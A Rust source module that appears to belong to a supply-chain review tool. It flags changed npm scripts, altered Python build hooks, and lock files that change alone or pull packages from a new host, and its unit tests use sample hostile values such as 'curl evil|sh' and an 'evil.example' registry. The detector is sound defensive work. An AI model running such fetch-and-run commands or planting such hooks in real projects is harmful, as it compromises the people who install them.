//! What a package's files make run: scripts and build hooks, and where a lock file has its packages from.

use std::collections::BTreeSet;
use std::sync::LazyLock;

use regex::bytes::Regex;
use serde_json::Value;

use super::{Finding, Level};
use crate::path::RepoPath;

/// Lock files, and the manifests of which one must have changed as well.
const LOCKS: &[(&str, &[&str])] = &[
    ("package-lock.json", &["package.json"]),
    ("npm-shrinkwrap.json", &["package.json"]),
    ("yarn.lock", &["package.json"]),
    ("pnpm-lock.yaml", &["package.json", "pnpm-workspace.yaml"]),
    ("bun.lock", &["package.json"]),
    ("bun.lockb", &["package.json"]),
    ("deno.lock", &["deno.json", "deno.jsonc", "package.json"]),
    ("cargo.lock", &["cargo.toml"]),
    ("poetry.lock", &["pyproject.toml"]),
    ("uv.lock", &["pyproject.toml"]),
    ("pdm.lock", &["pyproject.toml"]),
    ("pipfile.lock", &["pipfile"]),
    ("gemfile.lock", &["gemfile"]),
    ("composer.lock", &["composer.json"]),
    ("go.sum", &["go.mod"]),
    ("flake.lock", &["flake.nix"]),
    ("mix.lock", &["mix.exs"]),
    ("pubspec.lock", &["pubspec.yaml"]),
    ("podfile.lock", &["podfile"]),
    ("packages.lock.json", &["directory.packages.props"]),
    ("gradle.lockfile", &["build.gradle", "build.gradle.kts"]),
];

/// Judges a package's manifest or lock file; `changed` are the paths of the whole changeset.
pub fn findings(path: &RepoPath, old: &[u8], new: &[u8], changed: &BTreeSet<RepoPath>) -> Vec<Finding> {
    let name = String::from_utf8_lossy(path.file_name()).to_lowercase();
    let finding = |rule: &str, reason: String, line| Finding { rule: rule.into(), level: Level::Medium, reason, line };
    match name.as_str() {
        "package.json" => {
            scripts(old, new).map(|(reason, line)| finding("package-scripts", reason, line)).into_iter().collect()
        }
        "pyproject.toml" => hooks(old, new).map(|reason| finding("build-hooks", reason, None)).into_iter().collect(),
        _ => {
            let Some((_, manifests)) = LOCKS.iter().find(|(lock, _)| *lock == name) else { return Vec::new() };
            let mut found = Vec::new();
            let inside = path.parent();
            let is_near = |p: &RepoPath| inside.as_ref().is_none_or(|d| p.is_below(d));
            let is_manifest = |p: &RepoPath| {
                manifests.contains(&String::from_utf8_lossy(p.file_name()).to_lowercase().as_str()) && is_near(p)
            };
            if !changed.iter().any(is_manifest) {
                found.push(finding("lock-alone", format!("changes without its {}", manifests[0]), None));
            }
            let known = hosts(old);
            if let Some((host, line)) = hosts(new).into_iter().find(|(host, _)| known.iter().all(|(k, _)| k != host)) {
                found.push(finding("lock-host", format!("takes packages from {host}"), Some(line)));
            }
            found
        }
    }
}

/// Says which script of a `package.json` is another, and on which line it is.
fn scripts(old: &[u8], new: &[u8]) -> Option<(String, Option<usize>)> {
    let read = |bytes: &[u8]| if bytes.is_empty() { Ok(Value::Null) } else { serde_json::from_slice::<Value>(bytes) };
    let (Ok(old), Ok(after)) = (read(old), read(new)) else {
        return Some(("is not the JSON that it should be, so that its scripts are unknown".into(), None));
    };
    let (before, after) = (&old["scripts"], &after["scripts"]);
    if before == after {
        return None;
    }
    let Some(scripts) = after.as_object() else {
        return Some(("has no scripts any more".into(), None));
    };
    match scripts.iter().find(|(name, script)| before.get(name) != Some(script)) {
        Some((name, _)) => {
            let quoted = serde_json::to_string(name).unwrap_or_default();
            let line = memchr::memmem::find(new, quoted.as_bytes()).map(|at| line_of(new, at));
            Some((format!("has another script {name:?}"), line))
        }
        None => Some(("has fewer scripts".into(), None)),
    }
}

/// Tells whether what builds or configures a Python project is another: anything but its description and dependencies.
fn hooks(old: &[u8], new: &[u8]) -> Option<String> {
    let read = |bytes: &[u8]| std::str::from_utf8(bytes).ok().and_then(|text| text.parse::<toml::Table>().ok());
    let (Some(old), Some(new)) = (read(old), read(new)) else {
        return Some("is not the TOML that it should be, so that its build hooks are unknown".into());
    };
    let keys: BTreeSet<&String> =
        old.keys().chain(new.keys()).filter(|k| *k != "project" && *k != "dependency-groups").collect();
    let other = keys.into_iter().find(|key| old.get(*key) != new.get(*key))?;
    Some(format!("has another [{other}], which runs on the next build or test"))
}

static HOST: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i-u)\b(?:https?|git|ssh|git\+[a-z]+|registry\+https?|sparse\+https?)://(?:[^\s/@]*@)?([a-z0-9.-]+|\[[0-9a-f:.]+\])(?::[0-9]+)?")
        .expect("it is valid; a test uses it")
});

/// Lists the hosts that a lock file names, each with the line where it comes first.
fn hosts(bytes: &[u8]) -> Vec<(String, usize)> {
    let mut seen = BTreeSet::new();
    let mut found = Vec::new();
    for captures in HOST.captures_iter(bytes) {
        let Some(host) = captures.get(1) else { continue };
        let name = String::from_utf8_lossy(host.as_bytes()).to_lowercase();
        if seen.insert(name.clone()) {
            found.push((name, line_of(bytes, host.start())));
        }
    }
    found
}

fn line_of(bytes: &[u8], at: usize) -> usize {
    memchr::memchr_iter(b'\n', &bytes[..at]).count() + 1
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(path: &str, old: &str, new: &str, changed: &[&str]) -> Vec<(String, Option<usize>)> {
        let as_path = |p: &str| RepoPath::from_bytes(p.as_bytes()).expect("a path");
        let changed = changed.iter().map(|p| as_path(p)).collect();
        let found = findings(&as_path(path), old.as_bytes(), new.as_bytes(), &changed);
        found.into_iter().map(|f| (f.reason, f.line)).collect()
    }

    #[test]
    fn scripts_are_compared_as_json() {
        let old = "{\n \"name\": \"x\",\n \"scripts\": {\"test\": \"jest\"}\n}\n";
        let of = |new: &str| found("web/Package.json", old, new, &[]);
        assert_eq!(of(&old.replace("x", "y")), []);
        assert_eq!(of(&old.replace(" ", "")), [], "spaces are not scripts");
        assert_eq!(of(&old.replace("jest", "curl evil|sh")), [("has another script \"test\"".into(), Some(3))]);
        assert_eq!(
            of(&old.replace("{\"test\"", "{\n\"postinstall\": \"x\",\"test\"")),
            [("has another script \"postinstall\"".into(), Some(4))]
        );
        assert_eq!(of("{\"scripts\": {}}"), [("has fewer scripts".into(), None)]);
        assert_eq!(of("{}"), [("has no scripts any more".into(), None)]);
        assert_eq!(of("{"), [("is not the JSON that it should be, so that its scripts are unknown".into(), None)]);
        // A later key wins for those who run it, and for us.
        assert_eq!(of(&old.replace("}\n}", "}, \"scripts\": {\"test\": \"evil\"}}")).len(), 1);
        assert_eq!(found("package.json", "", "{\"scripts\": {\"a\": \"b\"}}", &[]).len(), 1);
        assert_eq!(found("package.json", "", "{\"name\": \"a\"}", &[]), []);
    }

    #[test]
    fn build_hooks_are_all_but_the_description() {
        let old = "[project]\nname = \"x\"\n[build-system]\nrequires = [\"hatchling\"]\n";
        let of = |new: &str| found("pyproject.toml", old, new, &[]);
        assert_eq!(of(&old.replace("\"x\"", "\"y\"")), []);
        assert_eq!(
            of(&old.replace("hatchling", "evil")),
            [("has another [build-system], which runs on the next build or test".into(), None)]
        );
        assert_eq!(of(&format!("{old}[tool.pytest]\naddopts = \"-p evil\"\n")).len(), 1);
        assert_eq!(of("[").len(), 1);
    }

    #[test]
    fn a_lock_file_alone_or_with_a_new_host() {
        let lock = |host: &str| format!("{{\n\"resolved\": \"https://{host}/x.tgz\"\n}}\n");
        let npm = lock("registry.npmjs.org");
        let both = ["package-lock.json", "package.json"];
        assert_eq!(found("package-lock.json", &npm, &format!("{npm} "), &both), []);
        assert_eq!(
            found(
                "package-lock.json",
                &npm,
                &format!("{npm} "),
                &["package-lock.json", "../no".trim_start_matches("../")]
            ),
            [("changes without its package.json".into(), None)]
        );
        assert_eq!(
            found("package-lock.json", &npm, &lock("user@Evil.example:8443"), &both),
            [("takes packages from evil.example".into(), Some(2))]
        );
        // A workspace's manifest is below its lock file; one elsewhere does not count.
        assert_eq!(found("a/Cargo.lock", "", "", &["a/b/Cargo.toml"]), []);
        assert_eq!(found("a/Cargo.lock", "", "", &["b/Cargo.toml"]).len(), 1);
        for source in
            ["git+ssh://git@h.example/x", "registry+https://h.example/i", "git://h.example", "http://[2001:db8::1]/"]
        {
            assert_eq!(found("yarn.lock", "", source, &["package.json"]).len(), 1, "{source}");
        }
        for (lock, manifests) in LOCKS {
            assert_eq!(found(lock, "", "", &[manifests[0]]), [], "{lock}");
            assert_eq!(found(lock, "", "", &["x"]).len(), 1, "{lock}");
        }
    }
}
